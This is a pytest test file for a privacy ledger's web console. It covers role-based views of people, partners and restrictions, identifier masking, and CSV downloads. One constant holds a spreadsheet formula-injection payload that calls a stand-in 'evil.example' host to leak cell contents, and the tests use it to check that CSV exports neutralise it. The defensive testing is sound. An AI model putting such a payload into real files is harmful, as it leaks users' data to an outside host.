"""The console's read pages, through FastAPI's test client on a demo ledger: the person's name
and how they were found, "no such person", the partner's shares in full, CSV downloads, and
plain words on every page."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from markupsafe import escape

from api.console import install_console
from api.demo import DemoPlan, council
from api.http.app import create_app
from api.service.composition import Service, open_service
from ledger.domain.processing import Access
from ledger.principals import Role
from ledger.privacy.identifiers import Kind, parse
from ledger.storage.config import SQLiteLocation
from ledger.storage.principal_store import PrincipalStore
from projections.reports.partner_disclosures import partner_names, partner_report
from projections.reports.restriction_verdicts import all_restrictions
from projections.reports.who_saw import who_saw
from tests.support.console import csrf_of, sign_in

NOW = datetime.now(UTC)
NAME = "Ada Example"  # synthetic
NHS = "9434765870"  # a synthetic NHS number with a valid check digit
UNKNOWN = "sr_aaaaaaaaaaaaaaaaaaaaaaaaaa"
# A vocabulary code, or a principal's id where its key's name belongs.
CODE = re.compile(r"\b(?:sl|pd|dpv|eu-gdpr|principal):[A-Za-z0-9]")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@dataclass(frozen=True)
class Demo:
    app: FastAPI
    service: Service
    keys: dict[Role, str]
    subject: str  # named in the directory, with an NHS number; the investigator's
    breached: str
    partner: str  # an organisation that received shares


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Demo]:
    location = SQLiteLocation(Path(tmp_path_factory.mktemp("pages")) / "ledger.sqlite3")
    service = open_service(location)
    for batch in council(DemoPlan(seed=11, entries=2000, until=NOW.date())):
        service.app.append(*batch)
    breached = next(r for r in all_restrictions(service.reports()) if r.verdict == "breached")
    subject = breached.facts.subject
    service.app.subjects.register([parse(Kind.NHS, NHS)], subject=subject, display_name=NAME)
    latest = who_saw(service.reports(), subject).entries[0]
    service.app.append(
        Access.record(
            occurred_at=service.clock(),
            actor="caseworker-7",
            actor_role="social-worker",
            actor_organisation=latest.organisation,
            subject=subject,
            categories=list(latest.categories),
            purpose=latest.purpose,
            legal_basis="eu-gdpr:A6-1-e",
            source_system="case-system",
            justification=FORMULA,
        )
    )
    partner = next(
        r.organisation
        for r in who_saw(service.reports(), subject).recipients
        if partner_report(service.reports("partner"), r.organisation).shares
    )
    store = PrincipalStore(service.app.database)
    keys = {}
    for role in (Role.DPO, Role.INVESTIGATOR, Role.PARTNER):
        _, keys[role] = store.create(
            name=f"{role.value}-pages",
            role=role,
            now=NOW,
            organisation=partner if role is Role.PARTNER else None,
            subjects=[subject] if role is Role.INVESTIGATOR else [],
            expires_at=NOW + timedelta(days=30) if role is Role.INVESTIGATOR else None,
        )
    app = create_app(service)
    install_console(app)
    reference = breached.facts.reference or breached.facts.restriction_id
    yield Demo(app, service, keys, subject, reference, partner)
    service.close()


@pytest.fixture
def client(demo: Demo) -> TestClient:
    return TestClient(demo.app, base_url="http://testserver")


def ledger_size(service: Service) -> int:
    head, _ = service.app.chain.snapshot()
    return 0 if head is None else head.position + 1


class _Text(HTMLParser):
    """The words a person reads on a page: text nodes, not markup or attribute values."""

    def __init__(self) -> None:
        super().__init__()
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


def words(html: str) -> str:
    parser = _Text()
    parser.feed(html)
    return " ".join(parser.parts)


# -- The person's page -----------------------------------------------------------------
def test_a_dpo_sees_the_persons_name_and_the_read_records_it(
    demo: Demo, client: TestClient
) -> None:
    """The DPO's page is headed by the name the directory keeps sealed; the read says pd:Name."""
    sign_in(client, demo.keys[Role.DPO])
    history = who_saw(demo.service.reports(), demo.subject).entries
    shown = {c for e in history for c in e.categories}
    page = client.get(f"/console/people/{demo.subject}?reason=sar")
    assert page.status_code == 200
    heading = re.search(r'data-testid="person-heading">([^<]*)<', page.text)
    assert heading is not None
    assert heading.group(1) == NAME
    assert demo.subject in page.text
    assert "NHS number" in words(page.text)  # what the directory knows them by
    latest = who_saw(demo.service.reports(), demo.subject).entries[0]
    assert latest.source_system == "sharing-ledger-console"
    assert set(latest.categories) == shown | {"pd:Name"}


def test_an_investigator_reads_the_history_without_the_name(demo: Demo, client: TestClient) -> None:
    """An investigator's page is headed by the reference; the name appears nowhere."""
    sign_in(client, demo.keys[Role.INVESTIGATOR])
    page = client.get(f"/console/people/{demo.subject}?reason=ico")
    assert page.status_code == 200
    assert NAME not in page.text
    assert "Not shown to your role" in page.text


@pytest.mark.parametrize("suffix", ["", "/who-saw.csv"])
def test_an_unknown_reference_is_no_such_person_and_records_nothing(
    demo: Demo, client: TestClient, suffix: str
) -> None:
    """A well-formed reference nobody has: 404 "no such person in this ledger", ledger unchanged."""
    sign_in(client, demo.keys[Role.DPO])
    before = ledger_size(demo.service)
    reply = client.get(f"/console/people/{UNKNOWN}{suffix}?reason=sar")
    assert reply.status_code == 404
    assert "no such person in this ledger" in reply.text
    assert ledger_size(demo.service) == before


def test_finding_an_unknown_reference_says_so_and_records_nothing(
    demo: Demo, client: TestClient
) -> None:
    """The find form with a mistyped reference re-shows with the error, never an empty page."""
    sign_in(client, demo.keys[Role.DPO])
    before = ledger_size(demo.service)
    reply = client.post(
        "/console/people",
        data={
            "csrf_token": csrf_of(client),
            "kind": "subject-reference",
            "identifier": UNKNOWN,
            "reason": "sar",
        },
    )
    assert reply.status_code == 422
    assert "no such person in this ledger" in reply.text
    assert ledger_size(demo.service) == before


def test_the_page_says_which_identifier_found_the_person_masked(
    demo: Demo, client: TestClient
) -> None:
    """Found by NHS number: the page says so with its last four digits, never the whole."""
    sign_in(client, demo.keys[Role.DPO])
    reply = client.post(
        "/console/people",
        data={
            "csrf_token": csrf_of(client),
            "kind": "nhs",
            "identifier": f"{NHS[:3]} {NHS[3:6]} {NHS[6:]}",
            "reason": "sar",
        },
        follow_redirects=False,
    )
    assert reply.status_code == 303
    assert NHS not in reply.headers["location"]
    page = client.get(reply.headers["location"])
    found = re.search(r'data-testid="found-by">(.*?)</dd>', page.text)
    assert found is not None
    assert f"NHS number, ending {NHS[-4:]}" in found.group(1)
    assert NHS not in page.text
    assert NHS[:6] not in page.text.replace(" ", "")


def test_the_person_page_shows_why_each_entry_was_made(demo: Demo, client: TestClient) -> None:
    """The justification the source system gave is opened for the page, as the CLI shows it."""
    sign_in(client, demo.keys[Role.DPO])
    page = client.get(f"/console/people/{demo.subject}")
    assert "Why (as recorded)" in page.text
    assert "HYPERLINK" in page.text  # autoescaped text, never markup
    assert "sl-withheld" not in page.text


def test_organisations_are_shown_by_their_names(demo: Demo, client: TestClient) -> None:
    """The person's entries name the partner as registered, not by its identifier."""
    sign_in(client, demo.keys[Role.DPO])
    name = partner_report(demo.service.reports("partner"), demo.partner).name
    assert name
    page = client.get(f"/console/people/{demo.subject}")
    table = page.text.split('data-testid="entries"', 1)[1]
    assert escape(name) in table  # as the page writes it (an apostrophe as &#39;)
    assert f"<td>{demo.partner}</td>" not in table


# -- The partner's page ----------------------------------------------------------------
def test_the_partner_page_gives_each_shares_basis_conditions_and_channel(
    demo: Demo, client: TestClient
) -> None:
    """Art 6 basis, Art 9 and Sch 1 conditions and channel are columns, in plain words."""
    sign_in(client, demo.keys[Role.DPO])
    page = client.get(f"/console/partners/{demo.partner}")
    assert page.status_code == 200
    for column in ("Art 6 basis", "Art 9 condition", "Sch 1 condition", "Channel"):
        assert f'<th scope="col">{column}</th>' in page.text
    share = partner_report(demo.service.reports("partner"), demo.partner).shares[0].share
    assert "Art 6(1)" in page.text
    link = f'href="/console/partners/{demo.partner}/shares/{share.share_id}"'
    assert link in page.text


def test_a_share_id_leads_to_the_share_and_its_ledger_entry(demo: Demo, client: TestClient) -> None:
    """The share's page gives its full id, its ledger entry and every fact; a wrong id is 404."""
    sign_in(client, demo.keys[Role.DPO])
    share = partner_report(demo.service.reports("partner"), demo.partner).shares[0].share
    page = client.get(f"/console/partners/{demo.partner}/shares/{share.share_id}")
    assert page.status_code == 200
    assert share.share_id in page.text
    assert f'data-testid="position">{share.position}<' in page.text
    missing = client.get(f"/console/partners/{demo.partner}/shares/not-a-share")
    assert missing.status_code == 404


def test_a_partner_opens_its_own_shares_only(demo: Demo, client: TestClient) -> None:
    """A partner's key opens its own share pages and gets a 403 page for another's."""
    sign_in(client, demo.keys[Role.PARTNER])
    share = partner_report(demo.service.reports("partner"), demo.partner).shares[0].share
    assert client.get(f"/console/partners/{demo.partner}/shares/{share.share_id}").is_success
    other = client.get(f"/console/partners/somewhere-else/shares/{share.share_id}")
    assert other.status_code == 403


# -- CSV downloads ---------------------------------------------------------------------
def _downloads(demo: Demo) -> list[str]:
    return [
        f"/console/people/{demo.subject}/who-saw.csv",
        "/console/partners.csv",
        f"/console/partners/{demo.partner}/disclosures.csv",
        "/console/restrictions.csv",
        "/console/rights-requests.csv?show=all",
    ]


def test_every_list_downloads_as_csv(demo: Demo, client: TestClient) -> None:
    """Each list's CSV is text/csv, an attachment, with a header and at least one row."""
    sign_in(client, demo.keys[Role.DPO])
    for path in _downloads(demo):
        reply = client.get(path)
        assert reply.status_code == 200, path
        assert reply.headers["content-type"] == "text/csv; charset=utf-8", path
        assert reply.headers["content-disposition"].startswith("attachment;"), path
        assert reply.headers["cache-control"] == "no-store", path
        rows = list(csv.reader(io.StringIO(reply.text)))
        assert len(rows) >= 2, path
        assert len({len(r) for r in rows}) == 1, path


def test_each_list_page_links_its_csv(demo: Demo, client: TestClient) -> None:
    """ "Download ... as CSV" sits under each list, pointing at its download."""
    sign_in(client, demo.keys[Role.DPO])
    pages = {
        f"/console/people/{demo.subject}": "who-saw.csv",
        "/console/partners": "/console/partners.csv",
        f"/console/partners/{demo.partner}": "disclosures.csv",
        "/console/restrictions": "/console/restrictions.csv",
        "/console/rights-requests": "/console/rights-requests.csv",
    }
    for page, target in pages.items():
        text = client.get(page).text
        assert "as CSV</a>" in text, page
        assert target in text, page


def test_the_who_saw_csv_neutralises_formulas_and_is_recorded(
    demo: Demo, client: TestClient
) -> None:
    """A justification that starts like a formula is written as text; the download is a read."""
    sign_in(client, demo.keys[Role.DPO])
    before = ledger_size(demo.service)
    reply = client.get(f"/console/people/{demo.subject}/who-saw.csv")
    assert ledger_size(demo.service) == before + 1
    rows = list(csv.DictReader(io.StringIO(reply.text)))
    assert "'" + FORMULA in [r["justification"] for r in rows]
    assert not any(cell.startswith("=") for r in rows for cell in r.values())


def test_the_disclosures_csv_has_the_conditions_and_channel(demo: Demo, client: TestClient) -> None:
    """The partner's CSV carries the Art 9 and Sch 1 conditions and the channel, as codes."""
    sign_in(client, demo.keys[Role.DPO])
    reply = client.get(f"/console/partners/{demo.partner}/disclosures.csv")
    header = next(csv.reader(io.StringIO(reply.text)))
    assert {"legal_basis", "special_condition", "schedule_1_condition", "channel"} <= set(header)


def test_csv_downloads_follow_the_pages_roles(demo: Demo, client: TestClient) -> None:
    """A partner downloads its own disclosures, and gets a 403 for the DPO's lists."""
    sign_in(client, demo.keys[Role.PARTNER])
    assert client.get(f"/console/partners/{demo.partner}/disclosures.csv").status_code == 200
    for path in ("/console/partners.csv", "/console/restrictions.csv"):
        assert client.get(path).status_code == 403, path


# -- Plain words -----------------------------------------------------------------------
def test_no_console_page_shows_a_vocabulary_code(demo: Demo, client: TestClient) -> None:
    """On the demo ledger no page's text holds an sl:, pd:, dpv: or eu-gdpr: code, or a
    principal:<id> (a restriction in force is read first, so its reasons name a reader)."""
    sign_in(client, demo.keys[Role.DPO])
    context = demo.service.reports()
    standing = next(r for r in all_restrictions(context) if r.facts.lifted_at is None)
    client.get(f"/console/restrictions/{standing.facts.reference or standing.facts.restriction_id}")
    restrictions = [r.facts.reference or r.facts.restriction_id for r in all_restrictions(context)]
    report = partner_report(demo.service.reports("partner"), demo.partner)
    pages = [
        "/console/",
        "/console/people",
        f"/console/people/{demo.subject}",
        "/console/partners",
        f"/console/partners/{demo.partner}",
        f"/console/partners/{demo.partner}/shares/{report.shares[0].share.share_id}",
        "/console/restrictions",
        *(f"/console/restrictions/{r}" for r in restrictions),
        "/console/rights-requests",
        "/console/integrity",
        "/console/complaints",
        "/console/withheld-entries",
        f"/console/people/{demo.subject}/record",
    ]
    found = {}
    for path in pages:
        reply = client.get(path)
        assert reply.status_code == 200, path
        if codes := CODE.findall(words(reply.text)):
            found[path] = sorted(set(codes))[:5]
    assert found == {}


def test_the_role_is_named_in_plain_words(demo: Demo, client: TestClient) -> None:
    """The start page says "an investigator's key", not the role's code."""
    sign_in(client, demo.keys[Role.INVESTIGATOR])
    assert "with an investigator's key" in words(client.get("/console/").text)


def test_the_consoles_own_reads_name_the_key_not_its_id(demo: Demo, client: TestClient) -> None:
    """The viewer's recorded read shows as the key's name and role, not principal:<id>."""
    sign_in(client, demo.keys[Role.DPO])
    page = client.get(f"/console/people/{demo.subject}")
    entries = words(page.text.split('data-testid="entries"', 1)[1])
    assert "dpo-pages (a DPO's key)" in entries
    assert "principal:" not in entries
    assert "ledger report reader" in entries


def test_the_timeline_draws_organisations_by_their_names(demo: Demo, client: TestClient) -> None:
    """The chart's lanes carry registered names, as the tables do."""
    sign_in(client, demo.keys[Role.DPO])
    name = partner_report(demo.service.reports("partner"), demo.partner).name
    page = client.get(f"/console/people/{demo.subject}")
    chart = page.text.split('class="sl-chart__lanes"', 1)[1].split("</g>", 1)[0]
    assert f"<title>{escape(name)}:" in chart
    assert f"<title>{demo.partner}:" not in chart


def test_a_restrictions_reasons_name_organisations_as_registered(
    demo: Demo, client: TestClient
) -> None:
    """A reason the report words with an organisation's identifier reads with its name."""
    sign_in(client, demo.keys[Role.DPO])
    names = partner_names(demo.service.reports("partner"))
    shown = []
    for report in all_restrictions(demo.service.reports()):
        reference = report.facts.reference or report.facts.restriction_id
        page = client.get(f"/console/restrictions/{reference}").text
        reasons = words(page.split('data-testid="reasons"', 1)[1].split("</ul>", 1)[0])
        assert not [o for o in names if re.search(rf"(?<![\w-]){re.escape(o)}(?![\w-])", reasons)]
        shown += [n for n in names.values() if n in reasons]
    assert shown  # the demo's reasons do name organisations


def test_a_reasons_ledger_entry_links_to_its_row_on_the_persons_page(
    demo: Demo, client: TestClient
) -> None:
    """ "Ledger entry N" in a reason links to row N of the person's history, which has that id."""
    sign_in(client, demo.keys[Role.DPO])
    page = client.get(f"/console/restrictions/{demo.breached}").text
    link = re.search(
        rf'href="(/console/people/{demo.subject}\?reason=restriction)#entry-(\d+)"', page
    )
    assert link is not None
    person = client.get(link.group(1)).text
    assert f'<tr id="entry-{link.group(2)}">' in person
